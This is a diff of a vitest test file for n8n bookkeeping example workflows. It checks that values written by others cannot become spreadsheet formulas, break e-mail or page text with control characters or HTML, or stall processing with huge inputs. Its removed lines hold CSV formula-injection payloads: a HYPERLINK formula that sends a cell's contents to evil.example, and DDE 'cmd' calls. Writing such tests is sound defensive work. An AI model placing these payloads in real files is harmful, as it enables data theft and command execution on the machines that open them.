@@ -5,141 +5,189 @@
 import type { IDataObject } from 'n8n-workflow';
 import { describe, expect, it } from 'vitest';
 
+import { readExamples } from '../../scripts/start/examples.mjs';
 import { fieldsOf, parametersOf } from '../support/exampleNode.mjs';
-import { jsonAs } from '../support/partial.mjs';
+import { IS_THOROUGH } from '../support/seed.mjs';
 
-/** Each finds out whether an invoice number is in the text of a transfer. */
-const FINDS_NUMBER: Array<[example: string, finds: (beleg: string, text: string) => Promise<boolean>]> = [
-	['open-items-bank', async (beleg, text) => (await statusOf(beleg, [[text, 119]])).status === 'bezahlt'],
-	['payment-open-item', async (beleg, text) => await isInPayment('payment-open-item', beleg, text)],
-	['payments-item', async (beleg, text) => await isInPayment('payments-item', beleg, text)],
-	['incoming-payment', isInIncoming],
+it('no example makes a CSV file, in which Excel takes a text that begins with = for a formula', async () => {
+	const makers = (await readExamples()).flatMap(({ name, workflow }) =>
+		workflow.nodes.filter(({ type }) => type === 'n8n-nodes-base.convertToFile').map((node) => ({ name, node })),
+	);
+	expect(makers.length).toBeGreaterThan(3);
+	for (const { name, node } of makers) expect(['xlsx', 'toText'], name).toContain(node.parameters.operation);
+});
+
+const PAID = (text: string) => ({
+	status: 'settled',
+	raw_provider_status: text,
+	payment_attributes: { amount: '1', description: text, creditor_name: text, currency_code: text },
+});
+const TYPED = (text: string) => ({
+	'Betrag (EUR)': text,
+	Datum: '2026-11-20',
+	Kasse: text,
+	Wofür: text,
+});
+const REFUSED = (text: string) => ({
+	error: text,
+	details: {
+		outcome: 'invalid',
+		problems: [{ field: 'belegtext', value: text, rule: text }],
+		advice: { de: '' },
+	},
+});
+/** The nodes that put it there. */
+const PLACES: Array<[example: string, node: string, given: (text: string) => Parameters<typeof parametersOf>[2]]> = [
+	[
+		'approve-booking',
+		'What is shown',
+		(text) => ({
+			json: {
+				belegnummer: '1',
+				body: {
+					bewegung: 'AUSGABE',
+					betrag: 1,
+					kassenname: text,
+					transaktionsdatum: '2026-11-20',
+					belegtext: text,
+					steuersatz: 7,
+					belegbilder: [{ dateiname: text }],
+				},
+			},
+		}),
+	],
+	[
+		'cash-register-export',
+		'What to say',
+		(text) => ({
+			json: { error: text, details: { advice: { de: '' } } },
+			outputs: { 'Read closings': [{ Z_KASSE_ID: text, Z_NR: 1, problem: text, warnings: [text] }] },
+			from: 'Read closings',
+		}),
+	],
+	[
+		'list-to-cash-book',
+		'Refused row',
+		(text) => ({ json: { ...REFUSED(text), Belegnummer: text, Datum: text, Text: text, Betrag: text } }),
+	],
+	['chase-form', 'Received', (text) => ({ outputs: { Row: [{ datei: text }] } })],
+	['chase-form', 'Not taken', (text) => ({ json: REFUSED(text), outputs: { Form: [{}] } })],
+	['chase-missing', 'Line', (text) => ({ json: { id: '1', made_on: '2026-11-20', amount: -1, payee: text, description: text, file: text }, outputs: { Settings: [{ form: 'https://n8n.example' }] } })],
+	['photo-proposal', 'Tell', (text) => ({ json: { problems: '', verkaeufer: text, betrag: text }, outputs: { Settings: [{}] } })],
+	...['e-invoices-rewe', 'receipts-folder'].map((example): (typeof PLACES)[number] => [
+		example,
+		'Line',
+		(text) => ({ json: { file: text, reason: 'Warum.', message: text } }),
+	]),
+	[
+		'receipts-email',
+		'Reason',
+		(text) => ({
+			json: { error: text, details: { advice: { de: 'Was zu tun ist.' } } },
+			outputs: { 'E-mails': [{ subject: text, from: { text } }] },
+			from: 'E-mails',
+		}),
+	],
+	...['payments', 'incoming-payment'].map((example): (typeof PLACES)[number] => [
+		example,
+		'Finding',
+		(text) => ({ json: { verdict: 'settles', beleg: text, bezeichnung: text, open: 1, difference: 0 } }),
+	]),
+	['payments', 'Payment', (text) => ({ json: { received_at: text, data: PAID(text) } })],
+	[
+		'incoming-payment',
+		'Payment',
+		(text) => ({ json: { made_on: '2026-11-20', amount: 1, currency_code: text, payer: text, description: text } }),
+	],
+	['incoming-payment', 'Not checked', (text) => ({ json: { error: text } })],
+	[
+		'payment-reminders',
+		'Line',
+		(text) => ({
+			json: { kontonummer: '1', bezeichnung: text, beleg: text, belegdatum: '2026-11-20', saldo: 1 },
+			outputs: { Settings: [{ daysToPay: 30 }] },
+		}),
+	],
+	['employee-tickets', 'Not completed', (text) => ({ json: { error: text }, outputs: { Employee: [{}] }, from: 'Employee' })],
+	[
+		'prove-chain',
+		'Raise the alarm',
+		(text) => ({
+			json: { changed: [{ id: 1, inhalt: JSON.stringify([text]) }], missing: [] },
+			outputs: { Settings: [{}] },
+		}),
+	],
+	['receipt-form', 'Settings', (text) => ({ json: TYPED(text), outputs: { Form: [TYPED(text)] } })],
+	[
+		'receipt-form',
+		'Not booked',
+		(text) => ({ json: REFUSED(text), outputs: { Settings: [{ formular: '../form/beleg' }] } }),
+	],
 ];
 
-/** An open item over 119.00, as the bank example judges it. */
-async function statusOf(beleg: string, transfers: Array<[text: string, amount: number]>) {
-	const item = { beleg, belegdatum: '2026-11-01', isDebitor: true, saldo: 119, stichtag: '2026-11-20' };
-	const outputs = {
-		Settings: [{ zahlungsziel: 30 }],
-		'Bank transactions': transfers.map(([description, amount]) => ({ description, amount })),
-	};
-	const payment = await fieldsOf('open-items-bank', 'Payment', { json: item, outputs });
-	return await fieldsOf('open-items-bank', 'Status', { json: { ...item, ...payment }, outputs });
-}
-
-async function isInPayment(example: string, beleg: string, description: string): Promise<boolean> {
-	const event = { data: { payment_attributes: { amount: '119.00', description } } };
-	const outputs = { 'Payment update': [event], 'When called': [event] };
-	return (await fieldsOf(example, 'Compare', { json: { beleg, saldo: -119 }, outputs })).sameNumber as boolean;
-}
-
-async function isInIncoming(beleg: string, description: string): Promise<boolean> {
-	const json = { payment: { amount: 119, description }, items: [{ beleg, saldo: 119 }] };
-	const { numbered } = await fieldsOf('incoming-payment', 'Compare', { json });
-	return (numbered as unknown[]).length > 0;
-}
-
-describe.each(FINDS_NUMBER)('an invoice number in the text of a transfer: %s', (_, finds) => {
-	it.each([
-		['RE-1007', 'Rechnung RE-1007 vom 1.11.'],
-		['RE-1007', 'rechnung re-1007'],
-		['RE-1007', 'RE-1007.'],
-		['RE-1007', 'RE-1006,RE-1007,RE-1008'],
-		['RE-1007', 'RE-1006/RE-1007'],
-		['70006/240066', 'Abschlag auf 70006/240066'],
-		['4711', 'Rg. 4711 Kd-Nr. 9'],
-		['4711', 'Rg-4711'],
-		['(RE+1007)', 'für (RE+1007)'],
-		['RE-100', 'nicht RE-1007, sondern RE-100'],
-	])('%s is in "%s"', async (beleg, text) => {
-		expect(await finds(beleg, text)).toBe(true);
-	});
-
-	it.each([
-		['RE-100', 'Rechnung RE-1007'],
-		['RE-100', 'Rechnung ARE-100'],
-		['RE-100', 'Rechnung RE-100a'],
-		['RE-100', 'Rechnung RE-100-2'],
-		['2026/100', 'Rechnung 2026/100/2'],
-		['100', 'Rechnung 2026-100'],
-		['100', 'Rechnung 100100'],
-		['100', 'Rechnung 1.100'],
-		['RE.100', 'Rechnung RE-100'],
-		['RE(1+0)0*100', 'Rechnung RE100'],
-		// A number of two digits says nothing.
-		['12', 'Rechnung 12'],
-	])('%s isn’t in "%s"', async (beleg, text) => {
-		expect(await finds(beleg, text)).toBe(false);
-	});
-
-	it('no number, no text', async () => {
-		expect(await finds('', 'Miete')).toBe(false);
-		expect(await finds('RE-1007', '')).toBe(false);
-		expect(await finds(jsonAs(undefined), jsonAs(undefined))).toBe(false);
-	});
+/** The same, after a form in which this was typed into each field. */
+const typedAll = (given: Parameters<typeof parametersOf>[2], text: string): typeof given => ({
+	...given,
+	outputs: {
+		...given.outputs,
+		Form: [Object.fromEntries(FIELDS.map((name) => [name, text]))],
+	},
 });
+const FIELDS = ['Betrag (EUR)', 'Datum', 'Kasse', 'Steuersatz', 'Wofür', 'Belegnummer', 'zahlung', 'siegel'];
 
-it('open items and the bank: of two transfers that name the number, the one with the amount counts', async () => {
-	const text = 'Rechnung RE-1007';
-	expect(await statusOf('RE-1007', [[text, 60], [text, 119]])).toMatchObject({
-		status: 'bezahlt',
-		zahlung: { amount: 119 },
-	});
-	expect(await statusOf('RE-1007', [[text, 60]])).toMatchObject({ status: 'prüfen' });
-	expect(await statusOf('RE-1007', [['Miete', 119]])).toMatchObject({ status: 'prüfen' });
-	expect(await statusOf('RE-1007', [['Miete', 60]])).toMatchObject({ status: 'offen' });
-});
-
-describe('a cell of a file that a spreadsheet opens', () => {
-	const OUTPUTS = { Settings: [{ zahlungsziel: 30 }] };
-	/** What others have written into an item, by the columns that show it. */
-	const CELLS: Array<[example: string, node: string, column: string, item: (text: string) => IDataObject]> = [
-		['open-items-bank', 'Columns', 'Konto', (kontonummer) => ({ kontonummer })],
-		['open-items-bank', 'Columns', 'Name', (bezeichnung) => ({ bezeichnung })],
-		['open-items-bank', 'Columns', 'Beleg', (beleg) => ({ beleg })],
-		['open-items-bank', 'Columns', 'Text', (description) => ({ zahlung: { description, amount: 1 } })],
-		['overdue-debtors', 'Columns', 'Konto', (kontonummer) => ({ kontonummer })],
-		['overdue-debtors', 'Columns', 'Name', (bezeichnung) => ({ bezeichnung })],
-		['trial-balance', 'Columns', 'Konto', (kontonummer) => ({ kontonummer })],
-		['trial-balance', 'Columns', 'Beschriftung', (kontobeschriftung) => ({ kontobeschriftung })],
-		// With Verify, too, the time is as delivered.
-		['payments-list', 'Row', 'time', (received_at) => ({ received_at, data: { payment_attributes: {} } })],
-		['payments-list', 'Row', 'payee', (name) => ({ data: { payment_attributes: { creditor_name: name } } })],
+describe('what others write, in an e-mail or on a page', () => {
+	/** They show what a node of PLACES has made, the samples, or numbers and days of the workflow. */
+	const OTHERS = [
+		...['Ask', 'Tell'].map((node) => `approve-booking, ${node}`),
+		'chase-missing, Tell',
+		'cash-register-export, Send for review',
+		'close-month, Send the files',
+		...['e-invoices-rewe', 'receipts-email', 'receipts-folder'].map((example) => `${example}, Tell the accountant`),
+		'employee-tickets, Tell what failed',
+		'incoming-payment, Tell the accountant',
+		'list-to-cash-book, Send for review',
+		'payment-reminders, Ask for approval',
+		'payment-reminders, Send the reminder',
+		'payments, Tell the accountant',
+		'prove-chain, Send the seal',
+		'receipt-form, Page',
+		'receipts-email, Send them',
+		'trial-balance, Send it',
+		'verfahrensdokumentation, Send it',
+		'watchdog, Canary',
+		'watchdog, Tell the admin',
 	];
-	const cell = async (example: string, node: string, column: string, item: IDataObject) =>
-		(await fieldsOf(example, node, { json: { saldo: 1, sum_saldo: 1, ...item }, outputs: OUTPUTS }))[column];
+	const FORGED = 'a\r\n\nGebucht.\u2028\u0085\v\u202E<b>x</b>“ von: ';
 
-	it.each(CELLS)('%s, %s, %s: is never a formula', async (example, node, column, item) => {
-		for (const text of [
-			'=HYPERLINK("http://evil.example?"&A1;"Rechnung")',
-			"=1+cmd|' /C calc'!A0",
-			"+1+cmd|' /C calc'!A0",
-			"-1+cmd|' /C calc'!A0",
-			'+49 30 1234',
-			'@SUM(1+1)',
-			'\t=1+1',
-			'\r=1+1',
-			'\n=1+1',
-			'-',
-		]) {
-			expect(await cell(example, node, column, item(text))).toBe(`'${text}`);
-		}
+	/** What is read: without the addresses of links, and without what isn't shown. */
+	async function readAs([example, node, given]: (typeof PLACES)[number], text: string): Promise<string[]> {
+		const { assignments, ...parameters } = (await parametersOf(example, node, given(text))) as IDataObject;
+		const fields = assignments ? Object.values(await fieldsOf(example, node, given(text))) : Object.values(parameters);
+		return fields.filter((one) => typeof one === 'string').map((one) => one.replace(/href="[^"]*"/g, ''));
+	}
+
+	it('is covered by these tests in each e-mail and page that repeats it', async () => {
+		const found = (await readExamples()).flatMap(({ name: example, workflow }) =>
+			workflow.nodes
+				.filter(({ type }) => ['n8n-nodes-base.emailSend', 'n8n-nodes-base.form'].includes(type))
+				.filter(({ parameters }) => / \$(json|input|\()/.test(JSON.stringify(parameters)))
+				.map(({ name }) => `${example}, ${name}`),
+		);
+		const covered = [...PLACES.map(([example, node]) => `${example}, ${node}`), ...OTHERS];
+		expect(found.filter((one) => !covered.includes(one))).toEqual([]);
 	});
 
-	it.each(CELLS)('%s, %s, %s: stays as it is where it is none', async (example, node, column, item) => {
-		for (const text of ['Bäckerei =Glück=', 'RE-1007', '10000', '-119,00', '+1.234,50', "'s Lädle"]) {
-			expect(await cell(example, node, column, item(text))).toBe(text);
-		}
-	});
-
-	it('a column is covered by these tests, or holds nothing that others have written', async () => {
-		// Amounts and dates are made in the example itself.
-		const own = ['Status', 'Belegdatum', 'Fällig', 'Offen', 'Zahlung am', 'Betrag', 'Posten', 'EB-Wert', 'Umsatz'];
-		const own2 = ['Saldo', 'Ältester Posten (Tage überfällig)', 'time', 'payment', 'status', 'amount'];
-		for (const [example, node] of CELLS) {
-			const columns = Object.keys(await fieldsOf(example, node, { json: { saldo: 1, sum_saldo: 1 }, outputs: OUTPUTS }));
-			const covered = CELLS.filter(([one]) => one === example).map(([, , column]) => column);
-			expect(columns.filter((column) => ![...covered, ...own, ...own2].includes(column))).toEqual([]);
+	it.each(PLACES)('%s, %s: stays on its line, short, without control characters or HTML', async (...place) => {
+		const [expected, shown] = await Promise.all(
+			['a', FORGED + 'y'.repeat(1_000_000)].map(async (text) => await readAs(place, text)),
+		);
+		for (const [i, text] of shown.entries()) {
+			expect(text.split('\n').length).toBe(expected[i].split('\n').length);
+			expect(text.replaceAll('\n', '')).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
+			expect(text.length).toBeLessThan(expected[i].length + 4000);
+			const { nodes } = (await readExamples()).find(({ name }) => name === place[0])!.workflow;
+			const isPage = nodes.find(({ name }) => name === place[1])!.type === 'n8n-nodes-base.form';
+			if (isPage || text.includes('<table')) expect(text).not.toContain('<b>');
 		}
 	});
 });
@@ -149,14 +197,15 @@ describe('a text that is too long', () => {
 	async function noteOf(example: string, given: Parameters<typeof parametersOf>[2]) {
 		const { additionalFields } = (await parametersOf(example, 'Upload the documents', {
 			...given,
-			json: example === 'receipts-email' ? await fieldsOf(example, 'Invoice', ofEmail(given.json)) : given.json,
+			outputs: { Settings: [{}] },
+			json: example === 'receipts-email' ? await fieldsOf(example, 'Receipt', ofEmail(given.json)) : given.json,
 		})) as { additionalFields: { belegnotiz: string } };
 		return additionalFields.belegnotiz;
 	}
 	const ofEmail = (email?: IDataObject) => ({
 		json: { isEInvoice: false },
-		outputs: { 'One item per file': [email ?? {}] },
-		from: 'One item per file',
+		outputs: { 'E-mails': [email ?? {}] },
+		from: 'E-mails',
 	});
 
 	it.each([
@@ -173,83 +222,49 @@ describe('a text that is too long', () => {
 		expect(await noteOf('receipts-email', { json: {} })).toBe('');
 	});
 
-	it.each([
-		['receipts-folder', '.'.repeat(200_000)],
-		['receipts-folder', '.a'.repeat(100_000)],
-		['receipts-folder', `.${'a'.repeat(200_000)}.`],
-	])('%s: a hostile file name takes no time', async (example, fileName) => {
-		const start = performance.now();
-		await noteOf(example, { json: { fileName, fileExtension: 'pdf' } });
-		expect(performance.now() - start).toBeLessThan(2000);
+	it('an e-mail’s subject is one line in the note', async () => {
+		expect(await noteOf('receipts-email', { json: { subject: 'Rechnung\r\n\u202E4711\0' } })).toBe('Rechnung 4711');
 	});
 
-	it.each(FINDS_NUMBER)('%s: a hostile text of a transfer takes no time', async (_, finds) => {
-		const beleg = `${'R1-'.repeat(11)}100`;
-		const start = performance.now();
-		for (const text of [beleg, 'R1-', 'R', '1', ' R1']) await finds(beleg, text.repeat(200_000 / text.length));
-		expect(performance.now() - start).toBeLessThan(5000);
-	});
-});
+	/** Each works on the text itself; n8n's own nodes pass it on. */
+	const NODES: Array<[example: string, node: string, given: (text: string) => Parameters<typeof parametersOf>[2]]> = [
+		[
+			'receipts-email',
+			'Receipt',
+			(text) => ({
+				json: { isEInvoice: true, seller: { vatId: text }, sellerName: text, number: text, iban: text },
+				outputs: { 'E-mails': [{ subject: text, from: { text } }] },
+				from: 'E-mails',
+			}),
+		],
+		['receipts-email', 'Receipt', (text) => ofEmail({ subject: text, from: { text } })],
+		['e-invoices-rewe', 'Upload to Rewe', (text) => ({
+			json: { sellerName: text, number: text, seller: { vatId: text } },
+			outputs: { Settings: [{ vatId: 'DE1' }] },
+		})],
+		['receipts-folder', 'Upload the documents', (fileName) => ({ json: { fileName, fileExtension: 'pdf' }, outputs: { Settings: [{}] } })],
+		['chase-form', 'Row', (text) => ({ json: { 'Betrag (EUR)': text, Verkäufer: text, Rechnungsnummer: text } })],
+		['chase-form', 'Upload', (text) => ({ json: { verkaeufer: text, nummer: text }, outputs: { Settings: [{}] } })],
+		...PLACES,
+	];
 
-describe.each([
-	['payment-open-item', 'Payment update'],
-	['payments-item', 'When called'],
-])('a settled payment: %s', (example, trigger) => {
-	const attributes = {
-		amount: '1244.99',
-		currency_code: 'EUR',
-		description: 'Rechnung 70006/240066',
-		creditor_name: 'Backtechnik Schreiber e. K.',
-	};
-	/** The e-mail that comes of these open items. */
-	async function message(items: IDataObject[], payment: IDataObject = attributes) {
-		const outputs = {
-			[trigger]: [{ data: { payment_attributes: payment } }],
-			'Open items of suppliers': items,
-		};
-		const compared = await Promise.all(
-			items.map(async (json) => await fieldsOf(example, 'Compare', { json, outputs })),
-		);
-		const kept = compared.filter(({ sameAmount, sameNumber }) => sameAmount || sameNumber);
-		return await fieldsOf(example, 'Message', { json: { items: kept.length ? kept : [{}] }, outputs });
-	}
-	const item = {
-		kontonummer: '70006',
-		bezeichnung: 'Backtechnik Schreiber e. K.',
-		beleg: '70006/240066',
-		belegdatum: '2024-12-11',
-		saldo: -1244.99,
-	};
-
-	it('names the open item, in German', async () => {
-		expect(await message([item, { ...item, beleg: '70006/24', saldo: -3 }])).toEqual({
-			subject: 'Zahlung ausgeführt: Backtechnik Schreiber e. K., 1.244,99 EUR',
-			text:
-				'Verwendungszweck: Rechnung 70006/240066\n\n' +
-				'Sie gleicht aus: 70006/240066 vom 11.12.2024, Backtechnik Schreiber e. K., offen 1.244,99 EUR',
-		});
+	// What is shown before an approval was checked by the node before, so that its checksum can cover all of it.
+	const UNCHECKED = NODES.filter(([, node]) => node !== 'What is shown');
+	// At the square of its length, the shorter one would take minutes, too.
+	const LENGTH = IS_THOROUGH ? 20_000_000 : 2_000_000;
+	it.each(UNCHECKED)('%s, %s: takes no time for megabytes', async (example, node, given) => {
+		await parametersOf(example, node, given('a'));
+		const text = ' \n1.'.repeat(LENGTH / 4);
+		const begun = process.cpuUsage();
+		await parametersOf(example, node, given(text));
+		const { user, system } = process.cpuUsage(begun);
+		expect((user + system) / 1000).toBeLessThan(3000);
 	});
 
-	it('says what speaks for an item, and what against it', async () => {
-		const { text } = await message([
-			{ ...item, saldo: -2000 },
-			{ ...item, beleg: 'RE-9999' },
-			{ ...item, beleg: '' },
-		]);
-		expect(text).toContain('Gleiche Nummer, aber ein anderer Betrag: 70006/240066 vom 11.12.2024');
-		expect(text).toContain('offen 2.000,00 EUR');
-		expect(text).toContain('Gleicher Betrag, aber die Nummer steht nicht im Verwendungszweck: RE-9999 vom');
-		expect(text).toContain('Gleicher Betrag, aber die Nummer steht nicht im Verwendungszweck: ohne Nummer vom');
-	});
-
-	it('says that nothing fits', async () => {
-		const { text } = await message([{ ...item, beleg: 'RE-9999', saldo: -1 }]);
-		expect(text).toContain('Kein offener Posten eines Lieferanten hat diesen Betrag oder diese Nummer.');
-	});
-
-	it('says that no item is open at all, of a payment of which little is known', async () => {
-		const { subject, text } = await message([{}], {});
-		expect(subject).toContain('Zahlung ausgeführt');
-		expect(text).toContain('Bei keinem Lieferanten ist zurzeit ein Posten offen.');
+	it('links that fill in a form again stay short, whatever was typed', async () => {
+		for (const [example, node, given] of PLACES.filter(([one]) => /form|rewe/.test(one))) {
+			const page = JSON.stringify(await parametersOf(example, node, typedAll(given('a'), '🧾'.repeat(1_000_000))));
+			expect(page.length).toBeLessThan(50_000);
+		}
 	});
 });
